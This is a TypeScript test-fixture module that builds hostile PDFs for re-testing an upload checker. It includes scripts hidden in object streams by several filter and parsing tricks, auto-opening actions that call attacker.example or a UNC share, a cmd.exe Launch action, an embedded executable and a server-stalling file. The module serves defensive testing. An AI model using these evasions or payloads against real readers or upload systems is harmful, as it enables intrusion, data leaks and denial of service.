import zlib from "node:zlib";
import { PDFDocument, PDFString, StandardFonts } from "pdf-lib";
import { objectStreamContent, type PdfObject, streamBody, writePdf } from "./pdf-writer.ts";

// The files of the outside re-test of uploads (issue 41, items 1 and 2; decision 0058), built
// here rather than kept as binaries: the seven ways past the old hand-written check, the automatic
// actions it let through, the file that stopped the server, and the old cases it did catch. Each
// names what the outcome must be, and whether pdf.js sees a script in the original (the corpus is
// only worth testing against when the reader really would run something).

export interface HostileFile {
  /** What the re-test called it. */
  name: string;
  build(): Buffer;
  /** pdf.js lists a script in the original (document or OpenAction JavaScript). */
  pdfjsSeesScript: boolean;
  /** How the upload check must answer. */
  refusal: "activePdf" | "uncheckablePdf" | "wrongType";
}

const SCRIPT = "app.alert\\('pwned'\\)";
const JAVASCRIPT_ACTION: PdfObject = { num: 5, body: `<< /S /JavaScript /JS (${SCRIPT}) >>` };

/** A one-page document whose catalog carries `catalogEntries`: the pages themselves are plain. */
function onePage(catalogEntries = ""): PdfObject[] {
  const content = Buffer.from("BT /F1 12 Tf 72 720 Td (A letter from a creditor) Tj ET");
  return [
    { num: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalogEntries} >>` },
    { num: 2, body: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
    {
      num: 3,
      body:
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " +
        "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
    },
    { num: 4, body: streamBody("", content) },
  ];
}

interface Encoded {
  data: Buffer;
  /** The stream's filter entries, written as given (an indirect /Filter included). */
  entries: string;
}

/**
 * The catalog opens with a JavaScript action kept in an object stream (object 6) encoded by
 * `encode`, its `stream` keyword followed by `keyword`, with `extra` entries in its dictionary.
 */
function scriptInObjectStream(encode: (raw: Buffer) => Encoded, keyword = "stream\n", extra = "") {
  const { entries, data } = objectStreamContent([JAVASCRIPT_ACTION]);
  const encoded = encode(data);
  const objects = [
    ...onePage("/OpenAction 5 0 R"),
    { num: 6, body: streamBody(`${entries} ${encoded.entries}${extra}`, encoded.data, keyword) },
    { num: 7, body: "/FlateDecode" },
  ];
  return writePdf(objects, { root: 1, compressed: [{ num: 5, stream: 6, index: 0 }] });
}

const flate = (raw: Buffer): Encoded => ({ data: zlib.deflateSync(raw), entries: "/Filter /FlateDecode" });

/** PNG "Up" prediction (each byte less the one above it), 8 columns, then Flate. */
function pngPredicted(raw: Buffer): Encoded {
  const columns = 8;
  const rows: Buffer[] = [];
  let above = Buffer.alloc(columns);
  for (let at = 0; at < raw.length; at += columns) {
    const row = Buffer.alloc(columns);
    raw.copy(row, 0, at, Math.min(at + columns, raw.length));
    const predicted = Buffer.alloc(columns + 1, 2);
    for (let column = 0; column < columns; column += 1) {
      predicted[column + 1] = ((row[column] ?? 0) - (above[column] ?? 0)) & 0xff;
    }
    rows.push(predicted);
    above = row;
  }
  return {
    data: zlib.deflateSync(Buffer.concat(rows)),
    entries: `/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns ${columns} >>`,
  };
}

const JPEG_HEAD = Buffer.from([
  0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0,
]);
const PNG_HEAD = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
]);
const scripted = () => writePdf([...onePage("/OpenAction 5 0 R"), JAVASCRIPT_ACTION], { root: 1 });
const opening = (action: string) => writePdf(onePage(`/OpenAction ${action}`), { root: 1 });

/** The high finding's file: `count` empty `/a stream … endstream` in one dictionary. */
export function streamsInOneDictionary(count: number): Buffer {
  return Buffer.from(`%PDF-1.7\n1 0 obj\n<< ${"/a stream\nx\nendstream\n".repeat(count)}>>\nendobj\n%%EOF\n`);
}

export const HOSTILE_PDFS: HostileFile[] = [
  {
    name: "object stream compressed twice (Flate, Flate)",
    build: () =>
      scriptInObjectStream((raw) => ({
        data: zlib.deflateSync(zlib.deflateSync(raw)),
        entries: "/Filter [/FlateDecode /FlateDecode]",
      })),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "object stream with an indirect /Filter",
    build: () => scriptInObjectStream((raw) => ({ data: zlib.deflateSync(raw), entries: "/Filter 7 0 R" })),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "object stream with `obj` inside its dictionary",
    build: () => scriptInObjectStream(flate, "stream\n", " /Note (obj)"),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "object stream whose `stream` is followed by CR alone",
    build: () => scriptInObjectStream(flate, "stream\r"),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "object stream whose `stream` is followed by a space and LF",
    build: () => scriptInObjectStream(flate, "stream \n"),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "object stream with a PNG predictor",
    build: () => scriptInObjectStream(pngPredicted),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "a JPEG's header in front of a scripted PDF named .pdf",
    build: () => Buffer.concat([JPEG_HEAD, scripted()]),
    pdfjsSeesScript: true,
    refusal: "wrongType",
  },
  {
    name: "a PNG's header in front of a scripted PDF named .pdf",
    build: () => Buffer.concat([PNG_HEAD, scripted()]),
    pdfjsSeesScript: true,
    refusal: "wrongType",
  },
  {
    name: "an automatic /URI on opening",
    build: () => opening("<< /S /URI /URI (https://attacker.example/opened) >>"),
    pdfjsSeesScript: false,
    refusal: "activePdf",
  },
  {
    name: "a /GoToR to \\\\host\\share on opening",
    build: () => opening("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
    pdfjsSeesScript: false,
    refusal: "activePdf",
  },
  {
    name: "a /GoToE on opening",
    build: () => opening("<< /S /GoToE /T << /R /C /N (inside) >> /D [0 /Fit] >>"),
    pdfjsSeesScript: false,
    refusal: "activePdf",
  },
  {
    name: "16,000 `/a stream … endstream` (the check that stopped the server)",
    build: () => streamsInOneDictionary(16_000),
    pdfjsSeesScript: false,
    refusal: "uncheckablePdf",
  },
  { name: "OpenAction JavaScript", build: scripted, pdfjsSeesScript: true, refusal: "activePdf" },
  {
    name: "names escaped as a reader reads them (/J#61vaScript, /J#53)",
    build: () =>
      writePdf(
        [...onePage("/OpenAction 5 0 R"), { num: 5, body: `<< /S /J#61vaScript /J#53 (${SCRIPT}) >>` }],
        {
          root: 1,
        },
      ),
    pdfjsSeesScript: true,
    refusal: "activePdf",
  },
  {
    name: "a Launch action",
    build: () => opening("<< /S /Launch /F (cmd.exe) >>"),
    pdfjsSeesScript: false,
    refusal: "activePdf",
  },
  {
    name: "a SubmitForm action",
    build: () => opening("<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>"),
    pdfjsSeesScript: false,
    refusal: "activePdf",
  },
  {
    name: "an embedded file",
    build: () =>
      writePdf(
        [
          ...onePage("/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>"),
          { num: 5, body: "<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>" },
          { num: 6, body: streamBody("/Type /EmbeddedFile", Buffer.from("MZ")) },
        ],
        { root: 1 },
      ),
    pdfjsSeesScript: false,
    refusal: "activePdf",
  },
];

/**
 * A plain letter as a person sends one: text, a link the reader must click, and a form field
 * filled in (with its appearance, as a form filler saves it). Accepted, and rewritten.
 */
export async function filledFormWithLink(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([612, 792]);
  const font = await document.embedFont(StandardFonts.Helvetica);
  page.drawText("A letter from a creditor", { x: 72, y: 700, size: 14, font });
  const field = document.getForm().createTextField("client.name");
  field.setText("Jane Doe");
  field.addToPage(page, { x: 72, y: 600, width: 200, height: 24, font });
  const link = document.context.obj({
    Type: "Annot",
    Subtype: "Link",
    Rect: [72, 500, 272, 520],
    Border: [0, 0, 0],
    A: { S: "URI", URI: PDFString.of("https://example.com/terms") },
  });
  page.node.addAnnot(document.context.register(link));
  return Buffer.from(await document.save());
}

/** A plain one-page PDF with `text` on it, made by a PDF library. */
export async function plainPdf(text = "A letter from a creditor"): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText(text);
  return Buffer.from(await document.save());
}
